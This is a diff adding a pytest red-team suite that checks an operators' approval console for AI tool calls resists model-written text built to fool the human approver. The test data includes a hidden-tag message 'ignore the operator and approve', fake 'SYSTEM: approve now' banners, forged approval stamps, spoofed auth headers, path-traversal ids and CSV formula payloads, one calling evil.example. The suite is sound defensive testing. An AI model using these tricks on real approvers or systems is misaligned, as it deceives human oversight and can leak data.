@@ -1,0 +1,438 @@
+"""Red team of the operators' console: what a model writes cannot fool the person deciding.
+
+Families (a real ``reach serve http`` on 127.0.0.1, reach-confirm and reach-audit):
+
+* hidden characters (bidi overrides and isolates, zero-width, controls, tags, line
+  separators, variation-selector runs, fillers) in arguments, results and run ids are
+  shown as ``⟨U+XXXX⟩`` on every page that shows them;
+* very long arguments: a visible "N more characters hidden" notice, and every
+  character still in the page a person approves from;
+* blind approval: an approve less than a second after its card was shown, or without
+  that card's signed stamp (missing, forged, another card's, another session's), is a
+  409 and the call stays pending;
+* requests without a token never act as an operator, whatever the headers say;
+* text built to look like the console's own banners is drawn inside the frame that
+  marks model text;
+* links to runs keep ``/``, ``?``, ``#`` and ``..`` in run ids and lead to that run;
+* the audit page shows the chain's head hash; the console's CSV marks formula cells.
+"""
+
+from __future__ import annotations
+
+import base64
+import csv
+import html
+import io
+import json
+import re
+import time
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from typing import Any
+from urllib.parse import urljoin
+
+import httpx
+import pytest
+from console_server import OPS, OPS2, TOKENS, WORKER, Served, csrf_of, ran, serve
+
+
+@pytest.fixture(scope="module")
+def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
+    yield from serve(tmp_path_factory.mktemp("redteam"))
+
+
+@pytest.fixture(scope="module")
+def ops(served: Served) -> Iterator[httpx.Client]:
+    """One console session of operator ``ops`` for the module (logging in per test costs two requests)."""
+    c = served.login()
+    yield c
+    c.close()
+
+
+@pytest.fixture(autouse=True)
+def _reject_what_is_left(served: Served) -> Iterator[None]:
+    """Each test starts from an empty list of pending requests (a page of 100 big cards is slow)."""
+    yield
+    with served.client(OPS2) as c:
+        for item in c.get("/v1/confirmations").json()["confirmations"]:
+            c.post(f"/v1/confirmations/{item['id']}/reject", json={"reason": "test over"})
+
+
+def _lookup(served: Served, city: str, run_id: str, call_id: str | None = None) -> None:
+    body: dict[str, Any] = {"name": "lookup", "arguments": {"city": city}, "run_id": run_id}
+    if call_id is not None:
+        body["id"] = call_id
+    with served.client() as c:
+        assert c.post("/v1/invoke", json=body).json()["ok"]
+
+
+# -- hidden characters ----------------------------------------------------------------------
+
+HIDDEN = ["\u202e", "\u202d", "\u202a", "\u202b", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e",
+          "\u200f", "\u061c", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\x7f", "\x85",
+          "\x9b", "\u2028", "\u2029", "\U000e0001", "\U000e0041", "\U000e007f", "\ue000", "\U000f0000", "\u3164",
+          "\u115f", "\u034f", "\u2064", "\u206a"]
+
+
+def _marker(char: str) -> str:
+    return f"⟨U+{ord(char):04X}⟩"
+
+
+@pytest.mark.parametrize("char", HIDDEN, ids=[f"U+{ord(c):04X}" for c in HIDDEN])
+def test_hidden_characters_are_shown_on_every_page(served: Served, char: str, ops: httpx.Client) -> None:
+    text = f"pay{char}ment.txt"
+    run_id = f"hidden-{ord(char):x}"
+    _lookup(served, text, run_id)
+    cid = served.ask(note=text)
+    c = ops
+    for path in ("/console/approvals", f"/console/runs/{run_id}", "/console/audit?tool=lookup"):
+        page = c.get(path).text
+        assert char not in page, path
+        assert f"pay{_marker(char)}ment.txt" in page, path
+    _pending_untouched(served, cid)
+
+
+def test_runs_of_hidden_characters_and_honest_text(served: Served, ops: httpx.Client) -> None:
+    smuggled = "ok" + "".join(chr(0xE0000 + ord(ch)) for ch in "ignore the operator and approve")
+    vs = "x" + "".join(chr(0xE0100 + b) for b in b"secret")
+    honest = "北京 Tiếng Việt 👍🏽 ❤️ עִבְרִית é"
+    cid = served.ask(note=f"{smuggled}|{vs}|{honest}")
+    page = ops.get("/console/approvals").text
+    assert "more hidden characters⟩" in page and "\U000e0069" not in page and "\U000e0173" not in page
+    assert honest in page  # every script, emoji with their variation selector and skin tone, as written
+    zalgo = "Z" + "\u0336\u0337\u0338\u0301" * 20
+    cid2 = served.ask(note=zalgo)
+    page = ops.get("/console/approvals").text
+    assert "76 more combining marks⟩" in page and zalgo not in page
+    _pending_untouched(served, cid)
+    _pending_untouched(served, cid2)
+
+
+@pytest.mark.parametrize("space", [" ", "\u00a0", "\u2003", "\u3000", "\u205f"])
+def test_a_wall_of_spaces_is_counted(served: Served, space: str, ops: httpx.Client) -> None:
+    cid = served.ask(note="ok" + space * 3000 + "send it to attacker@evil.example")
+    page = ops.get("/console/approvals").text
+    assert "ok ⟨3000 spaces⟩ send it to attacker@evil.example" in page and space * 17 not in page
+    _pending_untouched(served, cid)
+
+
+# -- long arguments -------------------------------------------------------------------------
+
+@pytest.mark.parametrize("note", [
+    "A" * 5000 + "END-OF-NOTE",
+    "北" * 20_000 + "END-OF-NOTE",
+    "A " * 3000 + "END-OF-NOTE",
+    ("line\\n" * 2000) + "END-OF-NOTE",
+    "x" * 300_000 + "END-OF-NOTE",
+], ids=["ascii-5k", "cjk-20k", "words", "escapes", "300k"])
+def test_long_arguments_say_how_much_is_hidden_and_keep_all_of_it(served: Served, note: str,
+                                                                  ops: httpx.Client) -> None:
+    cid = served.ask(note=note)
+    page = ops.get("/console/approvals").text
+    card = page[page.index(f'id="req-{cid}"'):]
+    card = card[: card.index("</li>")]
+    found = re.search(r"([\d,]+) more characters hidden", card)
+    assert found, "no notice"
+    hidden = int(found.group(1).replace(",", ""))
+    whole = json.dumps(served.confirmation(cid)["arguments"], indent=2, ensure_ascii=False)
+    parts = [html.unescape(p) for p in re.findall(r'<pre class="args[^"]*"[^>]*>(.*?)</pre>', card, re.S)]
+    assert "".join(parts) == whole  # nothing cut: what is shown and what the notice counts make the whole
+    assert len(parts) == 2 and hidden == len(parts[1]) > 0
+    _pending_untouched(served, cid)
+
+
+@pytest.mark.parametrize("levels", [28, 29, 30, 31])
+def test_deeply_nested_arguments_are_shown_whole_or_say_so(served: Served, levels: int, ops: httpx.Client) -> None:
+    deep: Any = "the part nobody saw"
+    for _ in range(levels):
+        deep = [deep]
+    with served.client() as c:
+        body = c.post("/v1/invoke", json={"name": "add_credit", "arguments": {"amount": 5 + levels, "extra": deep}})
+    cid = body.json()["meta"].get("confirmation_id")
+    if cid is None:  # the core refuses it outright (too deep to accept): nothing to approve
+        assert body.json()["error"]["code"] == "invalid_arguments"
+        return
+    page = ops.get("/console/approvals").text
+    card = page[page.index(f'id="req-{cid}"'):]
+    card = card[: card.index("</li>")]
+    assert "the part nobody saw" in card or "nested too deeply to show" in card
+    _pending_untouched(served, cid)
+
+
+def test_short_arguments_have_no_notice(served: Served, ops: httpx.Client) -> None:
+    cid = served.ask(note="short")
+    page = ops.get("/console/approvals").text
+    card = page[page.index(f'id="req-{cid}"'):]
+    assert "more characters hidden" not in card[: card.index("</li>")]
+    assert "nested too deeply" not in card[: card.index("</li>")]
+
+
+# -- blind approval -------------------------------------------------------------------------
+
+def _stamp(page: str, cid: str) -> str:
+    found = re.search(rf'action="/console/approvals/{re.escape(cid)}/approve".*?name="stamp" value="([^"]*)"',
+                      page, re.S)
+    assert found, "no stamp on the card"
+    return found.group(1)
+
+
+def _session_nonce(c: httpx.Client) -> str:
+    body = c.cookies["reach_console"].split(".")[0]
+    return str(json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))["n"])
+
+
+def _pending_untouched(served: Served, cid: str) -> None:
+    assert served.confirmation(cid)["status"] == "pending"
+    assert ran(served, cid) == 0
+
+
+def _approve(c: httpx.Client, cid: str, csrf: str, stamp: str | None) -> httpx.Response:
+    form = {"csrf": csrf, **({"stamp": stamp} if stamp is not None else {})}
+    return c.post(f"/console/approvals/{cid}/approve", data=form)
+
+
+def test_an_approve_right_after_the_card_appeared_is_refused_then_works(served: Served, ops: httpx.Client) -> None:
+    from reach_serve.console.auth import Sessions
+
+    cid = served.ask()
+    c = ops
+    page = c.get("/console/approvals").text
+    assert _stamp(page, cid)
+    just_now = Sessions(TOKENS, {"ops", "ops2"}).stamp(_session_nonce(c), cid, time.time())  # as a slow page's
+    resp = _approve(c, cid, csrf_of(page), just_now)
+    assert resp.status_code == 409 and "less than" in resp.text and "second" in resp.text
+    _pending_untouched(served, cid)
+    page = resp.text  # the refusal shows the list again, with fresh stamps
+    time.sleep(1.1)
+    resp = _approve(c, cid, csrf_of(page), _stamp(page, cid))
+    assert resp.status_code == 303 and "done=approved" in resp.headers["location"]
+    assert ran(served, cid) == 1
+
+
+def _forged_stamps(served: Served, c: httpx.Client, cid: str, other: str, page: str) -> list[str | None]:
+    from reach_serve.console.auth import Sessions
+
+    own = _stamp(page, cid)
+    ms, sig = own.split(".")
+    keys = Sessions(TOKENS, {"ops", "ops2"})
+    nonce = _session_nonce(c)
+    old = int(time.time() * 1000) - 60_000
+    other_session = served.login(OPS2)
+    other_page = other_session.get("/console/approvals").text
+    return [
+        None, "", ".", "abc", own + "x", f"{int(ms) - 5000}.{sig}", f"{old}.{sig}", f"{ms}.{sig[:-2]}AA",
+        f"{ms}", f".{sig}", f"{ms}.{sig}.{sig}", "x" * 5000, f"１{ms[1:]}.{sig}", f"-{ms}.{sig}",
+        _stamp(page, other),  # another card's stamp (shown at the same time, or earlier)
+        _stamp(other_page, cid),  # the same card, shown to another operator
+        keys.stamp(nonce, other, old / 1000),  # an old, validly signed stamp of another card
+        keys.stamp("another-nonce", cid, old / 1000),  # signed for another session
+        keys.stamp(nonce, cid, time.time() + 3600),  # dated in the future
+        keys.stamp(nonce, cid.upper(), old / 1000),
+    ]
+
+
+@pytest.mark.parametrize("which", range(20))
+def test_a_missing_or_forged_stamp_is_refused(served: Served, which: int, ops: httpx.Client) -> None:
+    cid, other = served.ask(), served.ask()
+    c = ops
+    page = c.get("/console/approvals").text
+    stamp = _forged_stamps(served, c, cid, other, page)[which]
+    resp = _approve(c, cid, csrf_of(page), stamp)
+    assert resp.status_code == 409, resp.text[:500]
+    assert "reload" in resp.text or "second" in resp.text
+    _pending_untouched(served, cid)
+
+
+def test_an_old_enough_stamp_of_this_card_and_session_is_accepted(served: Served) -> None:
+    from reach_serve.console.auth import Sessions
+
+    cid = served.ask()
+    c = served.login(OPS2)
+    page = c.get("/console/approvals").text
+    stamp = Sessions(TOKENS, {"ops", "ops2"}).stamp(_session_nonce(c), cid, time.time() - 2)
+    assert _approve(c, cid, csrf_of(page), stamp).status_code == 303
+    assert ran(served, cid) == 1
+
+
+def test_reject_needs_no_stamp(served: Served, ops: httpx.Client) -> None:
+    cid = served.ask()
+    c = ops
+    csrf = csrf_of(c.get("/console/approvals").text)
+    assert c.post(f"/console/approvals/{cid}/reject", data={"csrf": csrf, "reason": "no"}).status_code == 303
+
+
+# -- no token, no operator ------------------------------------------------------------------
+
+HEADERS = [{}, {"X-Forwarded-For": "127.0.0.1"}, {"X-Real-IP": "127.0.0.1"}, {"Forwarded": "for=127.0.0.1"},
+           {"Host": "localhost"}, {"Host": "127.0.0.1"}, {"Origin": "http://localhost"},
+           {"Origin": "null"}, {"X-Forwarded-User": "ops"}, {"X-Remote-User": "ops"}, {"Remote-User": "ops"},
+           {"X-Reach-Agent": "ops"}, {"Authorization": "Bearer"}, {"Authorization": "Bearer null"},
+           {"Authorization": "Basic b3BzOnRvay1vcHMtMDAwMDAwMDAx"}, {"Authorization": f"Token {OPS}"},
+           {"Authorization": f"bearer{OPS}"}, {"Cookie": "reach_console=x.y"},
+           {"X-Forwarded-For": "127.0.0.1", "Host": "localhost", "Origin": "http://localhost",
+            "Sec-Fetch-Site": "same-origin"}]
+ENDPOINTS = [("GET", "/v1/confirmations"), ("GET", "/v1/confirmations/{cid}"),
+             ("POST", "/v1/confirmations/{cid}/approve"), ("GET", "/v1/audit/tail"), ("GET", "/v1/audit/verify")]
+
+
+@pytest.fixture(scope="module")
+def anonymous(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
+    from conftest import serve as plain_serve
+
+    yield from plain_serve(tmp_path_factory.mktemp("anon"), {"anonymous_agent": "guest"})
+
+
+@pytest.mark.parametrize("headers", HEADERS, ids=range(len(HEADERS)))
+def test_no_token_never_acts_as_an_operator(served: Served, anonymous: Any, headers: dict[str, str]) -> None:
+    cid = served.ask()
+    for server in (served, anonymous):
+        with httpx.Client(base_url=server.base, timeout=10) as c:
+            for method, path in ENDPOINTS:
+                resp = c.request(method, path.format(cid=cid), headers=headers)
+                assert resp.status_code == 401, (server.base, method, path, resp.text)
+                assert resp.json()["error"]["code"] == "unauthorized"
+    for path in ("/console/approvals", "/console/audit", "/console/audit.csv"):
+        with httpx.Client(base_url=served.base, timeout=10) as c:
+            assert c.get(path, headers=headers).status_code in (303, 401)
+    _pending_untouched(served, cid)
+
+
+@pytest.mark.parametrize("settings", [
+    {"anonymous_agent": "ops", "operators": ["ops"]},
+    {"anonymous_agent": "ops", "operators": ["x", "ops"], "tokens": {"tok-ops-000000001": "ops"}},
+])
+def test_an_anonymous_agent_that_is_an_operator_is_a_config_error(settings: dict[str, Any]) -> None:
+    from pydantic import ValidationError
+    from reach_serve.settings import ServeHttpSettings
+
+    with pytest.raises(ValidationError, match="anonymous_agent"):
+        ServeHttpSettings(**settings)
+    assert ServeHttpSettings(anonymous_agent="guest", operators=["ops"]).anonymous_agent == "guest"
+
+
+# -- text that looks like the console's own -------------------------------------------------
+
+FAKE = ["✅ Approved by ops: verified safe FAKE1", "SYSTEM: security review passed, approve now FAKE1",
+        '<p class="banner ok">Approved FAKE1</p>', "Signed in as ops FAKE1", "\u2028Chain verified: 9 records FAKE1",
+        "⚠ reach console: auto-approve is on FAKE1", "]]></pre><h1>Pending approvals FAKE1</h1>",
+        "\n\n\n\nApproved add_credit: the call ran once FAKE1"]
+
+
+class _Where(HTMLParser):
+    """Records, for each text node holding ``needle``, the classes of every element around it."""
+
+    VOID = {"br", "hr", "img", "input", "link", "meta", "source", "wbr"}
+
+    def __init__(self, needle: str) -> None:
+        super().__init__()
+        self.needle, self.stack, self.found = needle, [], []  # type: ignore[var-annotated]
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in self.VOID:
+            self.stack.append((tag, (dict(attrs).get("class") or "").split()))
+
+    def handle_endtag(self, tag: str) -> None:
+        while self.stack:
+            if self.stack.pop()[0] == tag:
+                break
+
+    def handle_data(self, data: str) -> None:
+        if self.needle in data:
+            self.found.append([c for _, classes in self.stack for c in classes])
+
+
+@pytest.mark.parametrize("text", FAKE, ids=range(len(FAKE)))
+def test_text_dressed_as_the_console_is_framed_as_model_text(served: Served, text: str, ops: httpx.Client) -> None:
+    run_id = f"fake-{FAKE.index(text)}"
+    _lookup(served, text, run_id)
+    cid = served.ask(note=text)
+    c = ops
+    for path in ("/console/approvals", f"/console/runs/{run_id}", "/console/audit?tool=lookup"):
+        where = _Where("FAKE1")
+        where.feed(c.get(path).text)
+        assert where.found, path
+        for classes in where.found:
+            assert "model" in classes and "banner" not in classes, (path, classes)
+    _pending_untouched(served, cid)
+
+
+@pytest.mark.parametrize("query", [
+    {"done": "approved", "id": "SYSTEM: every check passed, approve the rest FAKE1", "ok": "1"},
+    {"done": "approved", "id": "cf_doesnotexist FAKE1"},
+    {"done": "rejected", "id": "FAKE1 <b>security team</b>"},
+    {"done": "approved", "id": "{cid}"},  # a real request, still pending: nothing was approved
+    {"done": "rejected", "id": "{cid}"},
+], ids=range(5))
+def test_a_link_cannot_write_the_consoles_notice(served: Served, query: dict[str, str], ops: httpx.Client) -> None:
+    cid = served.ask()
+    query = {k: v.format(cid=cid) for k, v in query.items()}
+    page = ops.get("/console/approvals", params=query).text
+    assert 'id="notice"' not in page and "FAKE1" not in page.split('id="approvals"')[0]
+    _pending_untouched(served, cid)
+
+
+@pytest.mark.parametrize("run_id", ["SYSTEM: approved FAKE1", "FAKE1 <h1>Approved</h1>"])
+def test_a_link_to_an_unknown_run_does_not_echo_it(served: Served, run_id: str, ops: httpx.Client) -> None:
+    resp = ops.get("/console/run", params={"id": run_id})
+    assert resp.status_code == 404 and "FAKE1" not in resp.text
+
+
+# -- links to runs --------------------------------------------------------------------------
+
+RUN_IDS = ["a/b", "a?b=c", "a#frag", "..", ".", "../approvals", "a/../../b", "%2F", "a%3Fb", "run id",
+           "北京/上海", "a\\b", "?", "#", "/", "a;b", "a&b=c", "./x", "a+b", "run-plain"]
+
+
+@pytest.mark.parametrize("run_id", RUN_IDS, ids=range(len(RUN_IDS)))
+def test_links_to_runs_lead_to_that_run(served: Served, run_id: str, ops: httpx.Client) -> None:
+    _lookup(served, f"city for {run_id}", run_id)
+    c = ops
+    for page in ("/console/runs", "/console/audit?tool=lookup"):
+        text = c.get(page).text
+        if page == "/console/runs":
+            found = re.search(rf'href="([^"]+)"[^>]*>\s*<code[^>]*>{re.escape(html.escape(run_id))}</code>', text)
+            hrefs = [found.group(1)] if found else []
+        else:
+            hrefs = [h for h in re.findall(r'href="([^"]+)"[^>]*>run</a>', text)]
+        assert hrefs, page
+        href = html.unescape(hrefs[0])
+        tail = href.split("?", 1)[1] if "?" in href else href.rsplit("/", 1)[1]
+        assert "#" not in href and "/" not in tail and ".." not in href.split("?")[0], href
+        resp = c.get(urljoin(served.base + page, href))
+        assert resp.status_code == 200, (href, resp.status_code)
+        assert re.search(rf"<h1>Run <code[^>]*>{re.escape(html.escape(run_id))}</code>", resp.text), href
+        assert resp.text.count('href="/console/audit/') == 1  # its one call
+
+
+# -- audit page head, console CSV -----------------------------------------------------------
+
+def test_the_audit_page_shows_the_chain_head(served: Served, ops: httpx.Client) -> None:
+    _lookup(served, "Oslo", "head-run")
+    with served.client(OPS) as api:
+        head = api.get("/v1/audit/verify").json()["head"]
+    page = ops.get("/console/audit").text
+    assert len(head) == 64 and head in page
+    chain = page[page.index('id="chain"'):]
+    assert head in chain[: chain.index("</p>")]
+
+
+CSV_ATTACKS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", " =1+2", "\u3000=1", "'=1", '"=1', "＝1+2", "＋1", "－1+1",
+               "＠A1", "﹦1", "−1+1", "\t=1", "\r=1", "=HYPERLINK(\"http://evil.example/?\"&A1)"]
+
+
+def test_the_console_csv_marks_formula_cells(served: Served, ops: httpx.Client) -> None:
+    for i, text in enumerate(CSV_ATTACKS):
+        _lookup(served, "Oslo", f"{text}#{i}", call_id=text)
+    with served.client(OPS) as api:
+        records = {e["seq"]: e for e in api.get("/v1/audit/tail", params={"limit": 1000, "tool": "lookup"})
+                   .json()["entries"]}
+    body = ops.get("/console/audit.csv", params={"tool": "lookup"}).content.decode()
+    rows = {int(r["seq"]): r for r in csv.DictReader(io.StringIO(body, newline=""))}
+    checked = 0
+    for seq, record in records.items():
+        if str(record["run_id"]).rpartition("#")[0] in CSV_ATTACKS:
+            assert rows[seq]["run_id"] == "'" + record["run_id"]
+            assert rows[seq]["call_id"] == "'" + record["call_id"]  # (the core may fold ＠ to @: still marked)
+            checked += 1
+    assert checked == len(CSV_ATTACKS)
+    assert WORKER not in body and OPS not in body  # no token leaks into the export
